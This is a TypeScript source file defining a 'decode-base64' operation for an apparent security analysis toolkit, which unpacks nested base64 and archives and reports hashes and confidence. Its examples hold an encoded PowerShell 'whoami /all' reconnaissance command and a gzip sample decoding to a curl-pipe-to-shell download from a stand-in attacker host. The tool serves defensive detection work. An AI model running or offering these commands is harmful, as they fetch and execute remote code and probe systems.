import { z } from 'zod';
import { confidenceOf } from '../../shared/decode/confidence.ts';
import { hashesOf, hexPairs } from '../../shared/decode/hashes.ts';
import { passwordsIfGiven } from '../../shared/decode/passwords.ts';
import { unpack } from '../../shared/decode/unpack.ts';
import { operation } from '../../shared/kit/operation.ts';
import { each, subjects } from '../../shared/kit/subjects.ts';

export default operation({
  name: 'decode-base64',
  summary: 'Decode base64 anywhere in text, open archives in it, and decode what comes out.',
  entities: ['process', 'file', 'mail-message', 'alert'],
  input: z.strictObject({
    ...subjects('text', { most: 200_000, longest: 64_000_000 }),
    utf16: z.boolean().default(false).describe('Take bytes that are no UTF-8 for UTF-16 where they could be. Clear UTF-16 is always seen.'),
    urlSafe: z.boolean().default(false).describe('Also take - and _, the letters of URLs and tokens, and do without padding.'),
    leastLength: z.int().min(8).max(1000).default(30).describe('Fewest letters of base64 that are tried.'),
    maxDepth: z.int().min(1).max(50).default(20).describe('Most levels of base64 in base64.'),
    maxItems: z.int().min(1).max(50_000).default(10_000).describe('Most items of one text.'),
    maxBytes: z.int().min(1024).max(256_000_000).default(64_000_000).describe('Most bytes decoded from one text.'),
    maxRatio: z.int().min(2).max(10_000).default(200).describe('Most bytes out of an archive for one byte in, once there is a mebibyte.'),
    passwords: passwordsIfGiven,
    showBytes: z.boolean().default(false).describe('Give the decoded bytes, as input_bytes in base64.'),
    printableBytes: z.int().min(0).max(10_000_000).default(256).describe('Bytes shown as hexadecimal pairs; also of binary inside the decoded text.'),
  }),
  sections: {
    records: z.object({
      sourceIndex: z.int(),
      reference: z.string().describe('Item prefix, depth and fragment number, as in 1.2.1.'),
      depth: z.int().describe('Level, 1 for what stands in the text itself.'),
      index: z.string().describe('Path of numbers through text and archives, as in the decoded text.'),
      original_string: z.string().describe('The base64 text.'),
      file_name: z.string().describe('Name of the archive member, gzip_file, or unknown.'),
      file_type: z.string().nullable().describe('Type by content.'),
      encoding_type: z.enum(['utf-8', 'utf-16', 'binary']),
      decoded_string: z.string().nullable().describe('The text; null for binary.'),
      confidence: z.enum(['high', 'medium', 'low']).describe('How likely it is that this was base64 at all, not a path or an identifier.'),
      size: z.int().describe('Bytes.'),
      md5: z.string(),
      sha1: z.string(),
      sha256: z.string(),
      printable_bytes: z.string().describe('Hexadecimal pairs of the first bytes.'),
      input_bytes: z.string().optional().describe('The decoded bytes, in base64.'),
    }),
    texts: z.object({
      sourceIndex: z.int(),
      full_decoded_string: z.string().describe('The text with all that was decoded put in its place.'),
    }),
  },
  limits: { rows: 200_000, seconds: 60, bytes: 256_000_000, inline: 50_000 },
  uses: [],
  examples: [
    {
      given: { values: ['powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsACAALwBmAG8AIABjAHMAdgA=', 'no base64'] },
      rows: [{ sourceIndex: 0, reference: '1.1', encoding_type: 'utf-16', decoded_string: 'whoami /all /fo csv', file_type: null, confidence: 'high' }],
    },
    {
      name: 'A gzip file',
      given: { value: 'H4sIAAAAAAAAA0suLcpRyCgpKbDS108ty8zRS61IzC3ISdVP1CvOUKhRKM4AAKsW7SsiAAAA' },
      rows: [{ file_name: 'gzip_file', file_type: 'gz', decoded_string: 'curl http://evil.example/a.sh | sh' }],
    },
  ],
  *run({ utf16, urlSafe, leastLength, maxDepth, maxItems, maxBytes, maxRatio, passwords, showBytes, printableBytes, ...input }, _ports, call) {
    const options = { utf16, urlSafe, least: leastLength, depth: maxDepth, bounds: { items: maxItems, bytes: maxBytes, ratio: maxRatio, passwords } };
    const shown = (bytes: Buffer) => hexPairs(bytes.subarray(0, printableBytes)) + (bytes.length > printableBytes ? ' ...' : '');
    for (const { value, sourceIndex } of each(input)) {
      const { items, problems, render } = unpack(value, options);
      for (const { about, code, detail } of problems) call.problem({ code, about: `text ${sourceIndex}, item ${about}`, detail });
      for (const item of items)
        yield [
          'records',
          {
            sourceIndex,
            reference: `${item.prefix}${item.depthOfText}.${item.fragment}`,
            depth: item.depth,
            index: item.index,
            original_string: item.original,
            file_name: item.name,
            file_type: item.type,
            encoding_type: item.encoding,
            decoded_string: item.text ?? null,
            confidence: confidenceOf(item),
            size: item.bytes.length,
            ...hashesOf(item.bytes),
            printable_bytes: shown(item.bytes),
            ...(showBytes && { input_bytes: item.bytes.toString('base64') }),
          },
        ] as const;
      if (items.length > 0) yield ['texts', { sourceIndex, full_decoded_string: render(shown) }] as const;
    }
  },
});
